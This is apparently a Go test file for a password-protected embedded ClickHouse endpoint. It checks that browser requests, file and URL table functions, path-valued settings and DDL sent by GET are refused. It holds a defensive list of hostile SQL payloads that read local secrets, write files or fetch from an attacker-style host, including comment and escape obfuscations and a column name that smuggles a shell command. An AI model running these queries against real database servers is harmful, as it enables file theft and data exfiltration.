package embedded_test

import (
	"bytes"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/pierrec/lz4/v4"

	"github.com/ste-utility/ste/chendpoint/embedded"
	"github.com/ste-utility/ste/chendpoint/internal/wire"
)

// The endpoint's engine runs as the user running ste: these tests hold it to
// issue 30's finding 1 — a secret on every request, nothing from a web
// browser, and no table function, engine or clause reaching files or hosts.

type rawReply struct {
	status int
	code   string // X-ClickHouse-Exception-Code
	body   string
}

// raw sends one request to the endpoint; mod may set headers or the Host.
func raw(t *testing.T, dsn, method, params, body string, mod func(*http.Request)) rawReply {
	t.Helper()
	u, _ := url.Parse(dsn)
	req, err := http.NewRequest(method, "http://"+u.Host+"/?"+params, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if pw, ok := u.User.Password(); ok {
		req.SetBasicAuth(u.User.Username(), pw)
	}
	if mod != nil {
		mod(req)
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return rawReply{res.StatusCode, res.Header.Get("X-ClickHouse-Exception-Code"), string(b)}
}

func TestEndpointRequiresThePassword(t *testing.T) {
	dsn := sharedEndpoint(t)
	u, _ := url.Parse(dsn)
	pw, _ := u.User.Password()

	// The password file: 0600, in a 0700 directory, and what the DSN carries.
	file := embedded.PasswordFile(sharedHome)
	st, err := os.Stat(file)
	if err != nil || st.Mode().Perm() != 0o600 {
		t.Fatalf("password file %s: %v mode %v, want 0600", file, err, st.Mode().Perm())
	}
	if got, err := embedded.Password(sharedHome); err != nil || got != pw {
		t.Fatalf("Password = %q, %v; the DSN carries %q", got, err, pw)
	}
	if len(pw) < 32 {
		t.Fatalf("password %q is too short to be a secret", pw)
	}
	dir, _ := os.Stat(embedded.DataDir(sharedHome))
	if dir.Mode().Perm() != 0o700 {
		t.Fatalf("data directory mode %v, want 0700", dir.Mode().Perm())
	}

	for _, c := range []struct {
		name   string
		params string
		mod    func(*http.Request)
		want   int
	}{
		{"none", "", func(r *http.Request) { r.Header.Del("Authorization") }, 401},
		{"wrong", "", func(r *http.Request) { r.SetBasicAuth("default", pw[:len(pw)-1]+"x") }, 401},
		{"other user", "", func(r *http.Request) { r.SetBasicAuth("admin", pw) }, 401},
		{"basic", "", nil, 200},
		{"headers", "", func(r *http.Request) {
			r.Header.Del("Authorization")
			r.Header.Set("X-ClickHouse-User", "default")
			r.Header.Set("X-ClickHouse-Key", pw)
		}, 200},
		{"url parameters", "user=default&password=" + pw, func(r *http.Request) { r.Header.Del("Authorization") }, 200},
		{"url wrong", "password=nope", func(r *http.Request) { r.Header.Del("Authorization") }, 401},
	} {
		got := raw(t, dsn, http.MethodPost, c.params, "SELECT 42", c.mod)
		if got.status != c.want {
			t.Errorf("%s: HTTP %d %q, want %d", c.name, got.status, got.body, c.want)
		}
		if c.want == 200 && strings.TrimSpace(got.body) != "42" {
			t.Errorf("%s: %q, want 42", c.name, got.body)
		}
		if c.want == 401 && (got.code != "516" || strings.Contains(got.body, "42")) {
			t.Errorf("%s: code %q body %q, want 516 and no result", c.name, got.code, got.body)
		}
	}
}

func TestEndpointRefusesBrowsers(t *testing.T) {
	dsn := sharedEndpoint(t)
	for name, mod := range map[string]func(*http.Request){
		"Origin":         func(r *http.Request) { r.Header.Set("Origin", "https://evil.example") },
		"Origin null":    func(r *http.Request) { r.Header.Set("Origin", "null") },
		"Sec-Fetch-Mode": func(r *http.Request) { r.Header.Set("Sec-Fetch-Mode", "no-cors") },
		"Sec-Fetch-Site": func(r *http.Request) { r.Header.Set("Sec-Fetch-Site", "cross-site") },
		"rebound Host":   func(r *http.Request) { r.Host = "evil.example:8123" },
	} {
		// With the right password: a browser page must not get in even if
		// it had it.
		got := raw(t, dsn, http.MethodPost, "", "SELECT 42", mod)
		if got.status != 403 || got.code != "497" || strings.Contains(got.body, "42\n") {
			t.Errorf("%s: HTTP %d code %q %q, want 403 / 497", name, got.status, got.code, got.body)
		}
	}
	if got := raw(t, dsn, http.MethodGet, "", "", func(r *http.Request) {
		r.URL.Path = "/ping"
		r.Header.Set("Sec-Fetch-Dest", "image")
	}); got.status != 403 {
		t.Errorf("/ping from a browser: HTTP %d, want 403", got.status)
	}
}

func TestEndpointRefusesFilesAndHosts(t *testing.T) {
	dsn := sharedEndpoint(t)
	secretDir := t.TempDir()
	secret := filepath.Join(secretDir, "secret")
	if err := os.WriteFile(secret, []byte("TOP-SECRET-CONTENT\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	written := filepath.Join(secretDir, "written.csv")

	// A listener standing for an attacker's server: url() must never reach it.
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	var hits atomic.Int64
	go http.Serve(ln, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		io.WriteString(w, "a\n")
	}))
	attacker := "http://" + ln.Addr().String() + "/x"

	db := "lockdown"
	if got := raw(t, dsn, http.MethodPost, "", "CREATE DATABASE IF NOT EXISTS "+db, nil); got.status != 200 {
		t.Fatal(got.body)
	}
	if got := raw(t, dsn, http.MethodPost, "database="+db, "CREATE TABLE IF NOT EXISTS t (s String) ENGINE = MergeTree ORDER BY s", nil); got.status != 200 {
		t.Fatal(got.body)
	}

	refused := []string{
		"SELECT * FROM file('" + secret + "', 'LineAsString')",
		"SELECT * FROM FILE('" + secret + "', 'LineAsString')",
		"SELECT * FROM `file`('" + secret + "', 'LineAsString')",
		`SELECT * FROM "file"('` + secret + `', 'LineAsString')`,
		"SELECT * FROM file /* hidden */ ('" + secret + "', 'LineAsString')",
		"SELECT * FROM file -- hidden\n('" + secret + "', 'LineAsString')",
		"SELECT * FROM `fil\\x65`('" + secret + "', 'LineAsString')",
		"SELECT file('" + secret + "')",
		"SELECT $$'$$, * FROM file('" + secret + "', 'LineAsString') -- '",
		"SELECT * FROM fileCluster('default', '" + secret + "', 'LineAsString')",
		"INSERT INTO FUNCTION file('" + written + "', 'CSV', 's String') SELECT 'x'",
		"SELECT 'x' INTO OUTFILE '" + written + "'",
		"INSERT INTO t FROM INFILE '" + secret + "' FORMAT LineAsString",
		"CREATE TABLE t2 (s String) ENGINE = File(LineAsString, '" + secret + "')",
		"CREATE DATABASE fs ENGINE = Filesystem('" + secretDir + "')",
		"SELECT * FROM url('" + attacker + "', 'LineAsString')",
		"SELECT * FROM URL('" + attacker + "', 'LineAsString')",
		"INSERT INTO FUNCTION url('" + attacker + "', 'CSV', 's String') SELECT 'x'",
		"SELECT * FROM remote('127.0.0.1:9000', system.one)",
		"SELECT * FROM s3('" + attacker + "', 'LineAsString')",
		"SELECT * FROM executable('id', 'LineAsString', 's String')",
		"INSERT INTO t VALUES (file('" + secret + "'))",
		"INSERT INTO t FORMAT Values (file('" + secret + "'))",
		"ATTACH TABLE t3 FROM '" + secretDir + "' (s String) ENGINE = MergeTree ORDER BY s",
		"BACKUP TABLE t TO File('" + written + "')",
		"SYSTEM SHUTDOWN",
	}
	for _, q := range refused {
		got := raw(t, dsn, http.MethodPost, "database="+db, q, nil)
		if got.status == 200 || strings.Contains(got.body, "TOP-SECRET") {
			t.Errorf("ran: %s\n  → HTTP %d %q", q, got.status, got.body)
		} else if got.code != "497" {
			t.Errorf("%s: code %q %q, want 497 (refused by the endpoint, not by the engine)", q, got.code, got.body)
		}
	}
	// The same with the statement in the URL and the data in the body (the
	// path the drivers' inserts take): Values rows are literals only.
	got := raw(t, dsn, http.MethodPost, "database="+db+"&query="+url.QueryEscape("INSERT INTO t FORMAT Values"), "(file('"+secret+"'))", nil)
	if got.status == 200 {
		t.Errorf("Values data with file() in the body ran: %q", got.body)
	}
	// External tables' structure is SQL too.
	got = raw(t, dsn, http.MethodPost, "database="+db+"&query="+url.QueryEscape("SELECT * FROM file('"+secret+"', 'LineAsString')"), "", nil)
	if got.status == 200 {
		t.Errorf("file() in the query parameter ran: %q", got.body)
	}
	// A setting naming a file a format reads.
	got = raw(t, dsn, http.MethodPost, "format_template_row="+url.QueryEscape(secret), "SELECT 1 FORMAT Template", nil)
	if got.code != "497" {
		t.Errorf("format_template_row: code %q %q, want 497", got.code, got.body)
	}

	if _, err := os.Stat(written); !os.IsNotExist(err) {
		t.Errorf("%s was written", written)
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("the attacker's server was reached %d times", n)
	}
	if got := raw(t, dsn, http.MethodPost, "database="+db, "SELECT count() FROM t", nil); strings.TrimSpace(got.body) != "0" {
		t.Errorf("rows in t after the refused inserts: %q", got.body)
	}

	// What only looks like it stays allowed: names in strings and comments,
	// columns, harmless functions, and data after FORMAT.
	for q, want := range map[string]string{
		"SELECT 'file(x)' AS s":                                "file(x)",
		"SELECT 1 -- file('/etc/passwd')":                      "1",
		"SELECT 1 /* url('http://x') */":                       "1",
		"SELECT URLHash('http://a/b') > 0":                     "1",
		"SELECT count() FROM (SELECT 1 AS file)":               "1",
		"SELECT count() FROM numbers(3)":                       "3",
		"SELECT 1 /* nested /* comment */ still */ + 1":        "2",
		"SELECT name FROM system.one ARRAY JOIN ['a'] AS name": "a",
	} {
		got := raw(t, dsn, http.MethodPost, "database="+db, q, nil)
		if got.status != 200 || strings.TrimSpace(got.body) != want {
			t.Errorf("%s: HTTP %d %q, want %q", q, got.status, got.body, want)
		}
	}
	if got := raw(t, dsn, http.MethodPost, "database="+db, "INSERT INTO t FORMAT CSV\n\"file('/etc/passwd')\"\n", nil); got.status != 200 {
		t.Errorf("CSV data mentioning file(): HTTP %d %q", got.status, got.body)
	}
	if got := raw(t, dsn, http.MethodPost, "database="+db, "INSERT INTO t VALUES ('url(x)'), (concat('a', 'b'))", nil); got.status != 200 {
		t.Errorf("inline VALUES: HTTP %d %q", got.status, got.body)
	}
}

// clickhouse-connect opens a session per client and sends its inserts
// lz4-compressed; both must work as on a server.
func TestSessionsAndLZ4Bodies(t *testing.T) {
	dsn := sharedEndpoint(t)
	sid := "s-" + t.Name()
	post := func(params, q string) rawReply {
		return raw(t, dsn, http.MethodPost, "session_id="+sid+"&"+params, q, nil)
	}
	if got := post("", "SET max_threads = 3"); got.status != 200 {
		t.Fatal(got.body)
	}
	if got := post("", "SELECT getSetting('max_threads')"); strings.TrimSpace(got.body) != "3" {
		t.Errorf("SET did not last for the session: %q", got.body)
	}
	if got := raw(t, dsn, http.MethodPost, "", "SELECT getSetting('max_threads') = 3", nil); strings.TrimSpace(got.body) != "0" {
		t.Errorf("a session's SET leaked into a request without session: %q", got.body)
	}
	if got := post("", "CREATE TEMPORARY TABLE tmp (n UInt8)"); got.status != 200 {
		t.Fatal(got.body)
	}
	if got := post("", "INSERT INTO tmp VALUES (7)"); got.status != 200 {
		t.Fatal(got.body)
	}
	if got := post("", "SELECT n FROM tmp"); strings.TrimSpace(got.body) != "7" {
		t.Errorf("temporary table: %q", got.body)
	}
	if got := raw(t, dsn, http.MethodPost, "session_id=other", "SELECT n FROM tmp", nil); got.status == 200 {
		t.Errorf("another session sees the temporary table: %q", got.body)
	}
	if got := raw(t, dsn, http.MethodPost, "session_id=never-opened&session_check=1", "SELECT 1", nil); got.code != "372" {
		t.Errorf("session_check on an unknown session: code %q %q, want 372", got.code, got.body)
	}
	if got := raw(t, dsn, http.MethodGet, "session_id="+sid+"&query=SELECT+1", "", nil); got.status == 200 {
		t.Errorf("GET with session_id: %q", got.body)
	}

	// lz4 (frame) Content-Encoding.
	var buf bytes.Buffer
	zw := lz4.NewWriter(&buf)
	io.WriteString(zw, "SELECT 40 + 2")
	zw.Close()
	if got := raw(t, dsn, http.MethodPost, "", buf.String(), func(r *http.Request) {
		r.Header.Set("Content-Encoding", "lz4")
	}); strings.TrimSpace(got.body) != "42" {
		t.Errorf("lz4 body: HTTP %d %q", got.status, got.body)
	}
}

// Issue 45, finding 1: settings are an allow-list. Every setting ClickHouse
// 26.x documents whose value is a path, a file, a URL, a host, a disk or a
// schema — the engine's own system.settings and system.merge_tree_settings,
// matched on name and description, plus the hand list in
// internal/wire.pathOrURLSettings — is refused with code 497 as a URL
// parameter, in a SETTINGS clause and in a SET statement, and no file
// appears, no URL is fetched.
func TestEverySettingNamingAPathOrURLIsRefused(t *testing.T) {
	dsn := sharedEndpoint(t)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	var hits atomic.Int64
	go http.Serve(ln, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { hits.Add(1) }))
	target := "http://" + ln.Addr().String() + "/x"
	outside := t.TempDir()

	list := raw(t, dsn, http.MethodPost, "", `SELECT DISTINCT name, type FROM (
		SELECT name, description, type FROM system.settings
		UNION ALL SELECT name, description, type FROM system.merge_tree_settings)
		WHERE match(lower(name || ' ' || description), '(path|file|director|url|uri|host|endpoint|schema|disk|storage_policy|registry|bucket|credential)')
		ORDER BY name`, nil)
	if list.status != 200 {
		t.Fatal(list.body)
	}
	var names []string
	for _, line := range strings.Split(strings.TrimSpace(list.body), "\n") {
		name, typ, _ := strings.Cut(line, "\t")
		if wire.SettingAllowed(name) {
			// Allowed, and matched only for its description: it must not
			// take a string (a path or a URL).
			if typ == "String" || typ == "URI" {
				t.Errorf("%s (%s) is allowed and takes a string", name, typ)
			}
			continue
		}
		names = append(names, name)
	}
	if len(names) < 50 {
		t.Fatalf("only %d path/URL settings listed by the engine: %q", len(names), names)
	}
	for _, must := range []string{"output_format_schema", "format_schema", "format_avro_schema_registry_url", "format_template_row", "disk", "storage_policy"} {
		if !slicesContains(names, must) {
			t.Errorf("%s not in the engine's list: the match above is too narrow", must)
		}
	}
	value := url.QueryEscape(filepath.Join(outside, "planted") + "\n" + target)
	for _, name := range names {
		for how, r := range map[string]rawReply{
			"URL parameter": raw(t, dsn, http.MethodPost, name+"="+value, "SELECT 1", nil),
			"SETTINGS":      raw(t, dsn, http.MethodPost, "", "SELECT 1 AS x SETTINGS "+name+" = '"+filepath.Join(outside, "planted")+"'", nil),
			"SET":           raw(t, dsn, http.MethodPost, "", "SET "+name+" = '"+target+"'", nil),
			"CREATE TABLE":  raw(t, dsn, http.MethodPost, "", "CREATE TABLE default.p_"+name+" (n UInt8) ENGINE = MergeTree ORDER BY n SETTINGS "+name+" = '"+filepath.Join(outside, "planted")+"'", nil),
		} {
			if r.status == 200 || r.code != "497" {
				t.Errorf("%s as %s: HTTP %d code %q %q, want 403 / 497", name, how, r.status, r.code, r.body)
			}
		}
	}
	// The attack of the report: a schema written at a path of the client's
	// choosing, with a line of its choosing; a registry URL fetched.
	for _, q := range []string{
		"SELECT 1 AS `x\ntouch " + outside + "/ran` FORMAT Protobuf SETTINGS output_format_schema = '" + outside + "/planted.proto'",
		"SELECT * FROM format(AvroConfluent, 'x Int32', unhex('0000000001020304')) SETTINGS format_avro_schema_registry_url = '" + target + "'",
	} {
		if r := raw(t, dsn, http.MethodPost, "", q, nil); r.code != "497" {
			t.Errorf("%s: HTTP %d code %q %q", q, r.status, r.code, r.body)
		}
	}
	if files, _ := os.ReadDir(outside); len(files) != 0 {
		t.Errorf("files written outside: %v", files)
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("the URL was fetched %d times", n)
	}
	// What STE and the clients send still works, and a misspelt name is
	// still UNKNOWN_SETTING.
	if r := raw(t, dsn, http.MethodPost, "max_threads=2&async_insert=0", "SELECT getSetting('max_threads') SETTINGS max_execution_time = 10", nil); strings.TrimSpace(r.body) != "2" {
		t.Errorf("allowed settings: HTTP %d %q", r.status, r.body)
	}
	if r := raw(t, dsn, http.MethodPost, "no_such_setting=1", "SELECT 1", nil); r.code != "115" {
		t.Errorf("unknown setting: code %q %q, want 115", r.code, r.body)
	}
}

func slicesContains(s []string, v string) bool {
	for _, x := range s {
		if x == v {
			return true
		}
	}
	return false
}

// Issue 45, finding 11: a GET that says readonly=0 ran DDL. A GET is
// read-only whatever it says.
func TestGetWithReadonlyZeroRunsNoDDL(t *testing.T) {
	dsn := sharedEndpoint(t)
	for _, params := range []string{"readonly=0", "readonly=1&readonly=0", "readonly=", "readonly=false"} {
		table := "ro_" + strings.NewReplacer("=", "_", "&", "_").Replace(params)
		r := raw(t, dsn, http.MethodGet, params+"&query="+url.QueryEscape("CREATE TABLE default."+table+" (n UInt8) ENGINE = Memory"), "", nil)
		if r.status == 200 {
			t.Errorf("GET ?%s ran CREATE TABLE", params)
		}
		if r := raw(t, dsn, http.MethodPost, "", "EXISTS TABLE default."+table, nil); strings.TrimSpace(r.body) != "0" {
			t.Errorf("GET ?%s: table %s exists (%q)", params, table, r.body)
		}
	}
	if r := raw(t, dsn, http.MethodGet, "query="+url.QueryEscape("SELECT 1 SETTINGS readonly = 0"), "", nil); r.status == 200 {
		t.Errorf("GET with SETTINGS readonly = 0 ran: %q", r.body)
	}
	if r := raw(t, dsn, http.MethodGet, "readonly=1&query=SELECT+7", "", nil); strings.TrimSpace(r.body) != "7" {
		t.Errorf("GET readonly=1 SELECT: %d %q", r.status, r.body)
	}
}

// Issue 45, finding 1, the second layer: the engine itself, past the SQL
// guard (ste-chdb --self-check runs fixed probes straight on chDB), writes
// and reads no file outside its data directory and fetches no URL.
func TestEngineConfinedWithoutTheGuard(t *testing.T) {
	requireLib(t)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	var hits atomic.Int64
	go http.Serve(ln, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { hits.Add(1) }))
	outside := t.TempDir()
	if err := os.WriteFile(filepath.Join(outside, "secret"), []byte("TOP-SECRET\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(binPath, "--data", filepath.Join(t.TempDir(), "data"), "--self-check", outside+",http://"+ln.Addr().String()+"/x")
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("ste-chdb --self-check: %v\n%s", err, out)
	}
	var got map[string]string
	if err := json.Unmarshal(out[bytes.LastIndexByte(bytes.TrimRight(out, "\n"), '\n')+1:], &got); err != nil {
		t.Fatalf("%q: %v", out, err)
	}
	for _, probe := range []string{"file() write", "output_format_schema write", "file() read", "url() fetch", "format_avro_schema_registry_url"} {
		if r, ok := got[probe]; !ok || strings.HasPrefix(r, "ran") {
			t.Errorf("%s: %q, want refused by the engine", probe, r)
		}
	}
	files, _ := os.ReadDir(outside)
	if len(files) != 1 {
		t.Errorf("files written outside: %v", files)
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("the URL was fetched %d times", n)
	}
}
